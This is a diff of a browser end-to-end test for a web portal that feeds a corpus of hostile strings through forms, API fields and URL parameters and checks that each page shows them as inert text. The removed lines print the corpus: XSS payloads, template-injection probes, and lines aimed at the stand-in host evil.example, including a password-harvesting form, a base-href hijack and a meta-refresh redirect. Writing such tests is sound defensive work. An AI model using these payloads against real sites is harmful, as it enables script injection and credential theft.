@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { startGateway, type TestGateway } from '../../support/gateway.ts';
 import { type Person, signIn, useBrowsers } from './browser.ts';
+import { corpus, elements } from './hostile-texts.ts';
 
 const browsers = useBrowsers();
 let gateway: TestGateway;
@@ -14,25 +15,6 @@ beforeAll(async () => {
 
 afterAll(() => gateway.stop());
 
-/** Texts that are something else where a page forgets what they are. */
-const corpus = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'><svg onload=alert(1)>",
-  '</title><script>alert(1)</script>',
-  '</pre></code><iframe src=javascript:alert(1)>',
-  '" autofocus onfocus=alert(1) x="',
-  'javascript:alert(1)',
-  '${alert(1)} {{7*7}} <%= 7*7 %>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '\u202Egnp.exe <b>bold</b> \u200B',
-  '"><form action=https://evil.example><input name=password>',
-  '<a hx-get="https://evil.example" hx-trigger="load">x</a>',
-  "<img/src='x'/onerror=alert`1`>",
-  '<base href=https://evil.example/>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-];
-
 interface Key {
   readonly id: string;
   readonly name: string;
@@ -44,9 +26,6 @@ async function make(name: string): Promise<Key> {
   expect([name, answer.status]).toEqual([name, 201]);
   return (await answer.json()) as Key;
 }
-
-const elements =
-  'main script, main iframe, main :not(.brand) > img, main svg[onload], main base, main meta, main form[action^="http"]';
 
 /** The page shows hostile texts as texts: nothing of them became part of it, ran, or was asked for. */
 async function expectHarmless(path: string): Promise<void> {
@@ -69,10 +48,21 @@ it('a hostile corpus through every field is shown as it was written, and does no
   expect(renamed.status).toBe(201);
   await gateway.db.sql`update organizations set name = ${corpus.join(' ')} where platform`;
   const keys: Key[] = [];
+  const organizations: string[] = [];
   for (const text of corpus) {
     keys.push(await make(text));
     const project = await gateway.request('/v1/projects', { body: { name: text.slice(0, 100) } });
     expect(project.status).toBe(201);
+    const body = { name: text.slice(0, 100), description: text };
+    const described = await gateway.request('/v1/projects', {
+      body: { ...body, name: `${body.name.slice(0, 90)} too` },
+    });
+    expect(described.status).toBe(201);
+    const somebody = { name: text.slice(0, 100), email: `${keys.length}@example.com`, password: 'correct horse' };
+    expect((await gateway.request('/v1/users', { body: somebody })).status).toBe(201);
+    const organization = await gateway.request('/v1/organizations', { body: { name: text.slice(0, 200) } });
+    expect(organization.status).toBe(201);
+    organizations.push(((await organization.json()) as { id: string }).id);
     const credit = { amount: '0.01', reference: text, note: text };
     expect((await gateway.request('/v1/wallet/credits', { body: credit })).status).toBe(201);
   }
@@ -92,8 +82,22 @@ it('a hostile corpus through every field is shown as it was written, and does no
     '/portal/wallet',
     '/portal/models',
     '/portal/sessions',
+    '/portal/projects',
+    '/portal/users',
+    '/portal/users?of=all',
+    '/portal/organization',
+    '/portal/organizations',
+    '/portal/audit',
+    '/portal/engines',
+    '/portal/engines/standin-chat',
   ];
   for (const path of lists) await expectHarmless(path);
+  for (const id of organizations.slice(0, 3)) {
+    await expectHarmless(`/portal/organizations/${id}`);
+    await page.getByRole('button', { name: 'Keys', exact: true }).click();
+    await expectHarmless('/portal/keys');
+    await page.getByRole('button', { name: 'Back to your own' }).click();
+  }
   await page.goto(`${gateway.url}/portal/keys`);
   const shown = await page.locator('tbody td:first-child a').allTextContents();
   for (const text of corpus) expect(shown).toContain(text);
@@ -105,8 +109,20 @@ it('a hostile corpus through every field is shown as it was written, and does no
   }
   const { data } = (await (await gateway.request('/v1/usage/requests')).json()) as { data: { id: string }[] };
   for (const { id } of data) await expectHarmless(`/portal/usage/${id}`);
+  const idsOf = async (path: string): Promise<readonly string[]> => {
+    const list = (await (await gateway.request(path)).json()) as { data: { id: string }[] };
+    return list.data.map(({ id }) => id);
+  };
+  // Each text once, as a name and as a description.
+  const newest = `limit=${corpus.length}&sort=-created_at`;
+  for (const id of await idsOf(`/v1/projects?${newest}`)) await expectHarmless(`/portal/projects/${id}`);
+  for (const id of await idsOf(`/v1/users?${newest}`)) await expectHarmless(`/portal/users/${id}/remove`);
+  for (const id of organizations) await expectHarmless(`/portal/organizations/${id}/close`);
   for (const text of corpus) {
     const word = encodeURIComponent(text);
+    await expectHarmless(`/portal/organizations?search=${word}&status=${word}&sort=${word}`);
+    await expectHarmless(`/portal/audit?action=${word}&actor_id=${word}&target_id=${word}&from=${word}`);
+    await expectHarmless(`/portal/engines/${word}`);
     await expectHarmless(`/portal/usage?range=${word}&by=${word}&measure=${word}&model=${word}`);
     await expectHarmless(`/portal/keys?status=${word}&notice=${word}`);
     await expectHarmless(`/portal/wallet?type=${word}&notice=${word}`);
@@ -131,8 +147,8 @@ it('the same typed into the forms, and sent back by refusals', async () => {
     expect(await page.locator(elements).count(), text).toBe(0);
     await page.goto(`${gateway.url}/portal/wallet`);
     await page.getByText('Add credit').click();
-    await page.getByLabel('Amount in USD').fill(text.slice(0, 40));
-    await page.getByLabel('Reference').fill(text);
+    await page.getByLabel('Amount in USD').first().fill(text.slice(0, 40));
+    await page.getByLabel('Reference').first().fill(text);
     await page.getByLabel('Note').fill(text);
     await page.getByRole('button', { name: 'Book the credit' }).click();
     await page.getByRole('alert').waitFor();
